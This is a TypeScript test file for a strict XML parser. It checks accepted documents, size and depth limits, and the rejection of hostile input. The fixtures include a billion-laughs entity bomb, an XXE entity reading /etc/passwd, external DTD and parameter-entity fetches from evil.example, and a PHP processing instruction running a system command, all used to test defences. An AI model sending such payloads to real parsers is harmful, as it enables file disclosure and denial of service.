import { describe, expect, it } from 'vitest';
import { isMpayError } from '../../errors/index.ts';
import { defaultXmlLimits, resolveXmlLimits, type XmlLimits } from './limits.ts';
import { parseXmlDocument } from './parse.ts';

function outcome(text: string, limits: Partial<XmlLimits> = {}): string {
  try {
    parseXmlDocument(text, resolveXmlLimits(limits));
  } catch (error) {
    if (isMpayError(error)) return error.code;
    throw error;
  }
  return 'accepted';
}

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;

describe('parseXmlDocument: what it accepts', () => {
  it('reads element-only documents with leaf text', () => {
    const text =
      '<?xml version="1.0" encoding="UTF-8"?>\n<a>\n  <b>x &lt; y &amp;&gt; &quot;&apos;</b>\n  <c/>\n</a>\n';
    expect(parseXmlDocument(text, defaultXmlLimits)).toEqual({
      name: 'a',
      text: '',
      children: [
        { name: 'b', text: 'x < y &> "\'', children: [] },
        { name: 'c', text: '', children: [] },
      ],
    });
  });

  it.each([
    '<a/>',
    '<a></a>',
    '\uFEFF<a/>',
    "<?xml version='1.0'?><a/>",
    '<?xml version="1.0" encoding="utf-8" standalone="yes" ?>\n<a/>',
    '<a >t</a >',
    '<a>caf&#xE9; &#233; &#x1F600;</a>',
    '<a>> is fine alone</a>',
  ])('accepts %j', (text) => {
    expect(outcome(text)).toBe('accepted');
  });

  it('decodes character references to the same text as literal characters', () => {
    expect(parseXmlDocument('<a>caf&#xE9;&#x1F600;</a>', defaultXmlLimits).text).toBe('café😀');
  });
});

describe('parseXmlDocument: hostile and malformed input', () => {
  it.each([
    ['billion laughs', billionLaughs, 'XML_FORBIDDEN_CONSTRUCT'],
    [
      'external entity (XXE)',
      '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
      'XML_FORBIDDEN_CONSTRUCT',
    ],
    [
      'parameter entity',
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>',
      'XML_FORBIDDEN_CONSTRUCT',
    ],
    ['external DTD', '<!DOCTYPE iMS SYSTEM "http://evil.example/ims.dtd"><iMS/>', 'XML_FORBIDDEN_CONSTRUCT'],
    ['DOCTYPE after the declaration', '<?xml version="1.0"?>\n<!DOCTYPE x><x/>', 'XML_FORBIDDEN_CONSTRUCT'],
    ['undeclared entity reference', '<x>&xxe;</x>', 'XML_FORBIDDEN_CONSTRUCT'],
    ['HTML entity', '<x>&nbsp;</x>', 'XML_FORBIDDEN_CONSTRUCT'],
    ['declaration inside content', '<x><!ELEMENT y ANY></x>', 'XML_FORBIDDEN_CONSTRUCT'],
    ['entity declaration inside content', '<x><!ENTITY y "z"></x>', 'XML_FORBIDDEN_CONSTRUCT'],
    ['stylesheet PI', '<?xml-stylesheet href="x.xsl"?><x/>', 'XML_FORBIDDEN_CONSTRUCT'],
    ['PI in content', '<x><?php system("id") ?></x>', 'XML_FORBIDDEN_CONSTRUCT'],
    ['PI after the root', '<x/><?pi?>', 'XML_FORBIDDEN_CONSTRUCT'],
    ['declaration not first', ' <?xml version="1.0"?><x/>', 'XML_FORBIDDEN_CONSTRUCT'],
    ['XML 1.1', '<?xml version="1.1"?><x/>', 'XML_INVALID'],
    ['other encoding', '<?xml version="1.0" encoding="ISO-8859-1"?><x/>', 'XML_INVALID'],
    ['comment', '<x><!-- hi --></x>', 'XML_INVALID'],
    ['comment in prolog', '<!-- hi --><x/>', 'XML_INVALID'],
    ['CDATA', '<x><![CDATA[<y/>]]></x>', 'XML_INVALID'],
    ['attribute', '<x a="1"/>', 'XML_INVALID'],
    ['attribute on an open tag', "<x a='1'>t</x>", 'XML_INVALID'],
    ['namespace declaration', '<iMS xmlns="urn:x"></iMS>', 'XML_INVALID'],
    ['prefixed name', '<a:b/>', 'XML_INVALID'],
    ['unclosed tag', '<x><y>', 'XML_INVALID'],
    ['unclosed start tag', '<x', 'XML_INVALID'],
    ['mismatched tags', '<x><y></x></y>', 'XML_INVALID'],
    ['end tag only', '</x>', 'XML_INVALID'],
    ['two roots', '<x/><y/>', 'XML_INVALID'],
    ['text before the root', 'hi<x/>', 'XML_INVALID'],
    ['text after the root', '<x/>hi', 'XML_INVALID'],
    ['empty document', '', 'XML_INVALID'],
    ['whitespace only', ' \n', 'XML_INVALID'],
    ['mixed content', '<x>a<y/>b</x>', 'XML_INVALID'],
    ["']]>' in text", '<x>]]></x>', 'XML_INVALID'],
    ['unterminated reference', '<x>&amp</x>', 'XML_INVALID'],
    ['bare ampersand', '<x>fish & chips</x>', 'XML_INVALID'],
    ['reference to NUL', '<x>&#0;</x>', 'XML_INVALID'],
    ['reference to a surrogate', '<x>&#xD800;</x>', 'XML_INVALID'],
    ['reference beyond Unicode', '<x>&#x110000;</x>', 'XML_INVALID'],
    ['huge reference', `<x>&#${'9'.repeat(400)};</x>`, 'XML_INVALID'],
    ['NUL character', '<x>\u0000</x>', 'XML_INVALID'],
    ['control character', '<x>\u0008</x>', 'XML_INVALID'],
    ['lone surrogate', '<x>\uD800</x>', 'XML_INVALID'],
    ['U+FFFE', '<x>\uFFFE</x>', 'XML_INVALID'],
    ['name starting with a digit', '<1x/>', 'XML_INVALID'],
    ['space after <', '< x/>', 'XML_INVALID'],
    ['space in end tag', '<x></ x>', 'XML_INVALID'],
    ['lower-case doctype', '<!doctype x><x/>', 'XML_FORBIDDEN_CONSTRUCT'],
  ])('%s', (_name, text, code) => {
    expect(outcome(text)).toBe(code);
  });

  // A recursive parser would overflow the stack (a RangeError, not the catalogued code) on a million
  // levels. How fast it gives up is a benchmark's business, not a test's: no timing is asserted.
  it('refuses 10,000 and 1,000,000 levels of nesting with its limit code, without recursion', () => {
    expect(outcome('<a>'.repeat(10_000))).toBe('XML_LIMIT_EXCEEDED');
    const million = `${'<a>'.repeat(1_000_000)}${'</a>'.repeat(1_000_000)}`;
    expect(outcome(million, { documentBytesMax: 16 * 1024 * 1024, depthMax: 256 })).toBe(
      'XML_LIMIT_EXCEEDED',
    );
  });

  it('refuses a 10 MB document before parsing it', () => {
    const tenMegabytes = `<x>${'a'.repeat(10 * 1024 * 1024)}</x>`;
    expect(outcome(tenMegabytes)).toBe('XML_LIMIT_EXCEEDED');
  });

  it('counts the size in UTF-8 bytes, not in characters', () => {
    const euros = `<x>${'€'.repeat(30_000)}</x>`;
    expect(euros.length).toBeLessThan(defaultXmlLimits.documentBytesMax);
    expect(outcome(euros, { textLengthMax: 1024 * 1024 })).toBe('XML_LIMIT_EXCEEDED');
  });

  it('limits the number of elements and the text of one element', () => {
    expect(outcome(`<x>${'<y/>'.repeat(63)}</x>`)).toBe('accepted');
    expect(outcome(`<x>${'<y/>'.repeat(64)}</x>`)).toBe('XML_LIMIT_EXCEEDED');
    expect(outcome(`<x>${'a'.repeat(16 * 1024)}</x>`)).toBe('accepted');
    expect(outcome(`<x>${'a'.repeat(16 * 1024 + 1)}</x>`)).toBe('XML_LIMIT_EXCEEDED');
    expect(outcome(`<x>${'&amp;'.repeat(16 * 1024 + 1)}</x>`, { documentBytesMax: 1024 * 1024 })).toBe(
      'XML_LIMIT_EXCEEDED',
    );
    expect(outcome('<a><b><c/></b></a>', { depthMax: 3 })).toBe('accepted');
    expect(outcome('<a><b><c/></b></a>', { depthMax: 2 })).toBe('XML_LIMIT_EXCEEDED');
  });

  it('validates the limits themselves', () => {
    expect(resolveXmlLimits()).toEqual(defaultXmlLimits);
    for (const bad of [
      { depthMax: 0 },
      { depthMax: 1.5 },
      { depthMax: Number.POSITIVE_INFINITY },
      { documentBytesMax: 1e9 },
    ]) {
      expect(() => resolveXmlLimits(bad)).toThrow(/XML limit/);
    }
  });

  it('refuses a value that is not a string', () => {
    expect(outcome(42 as unknown as string)).toBe('XML_INVALID');
  });
});
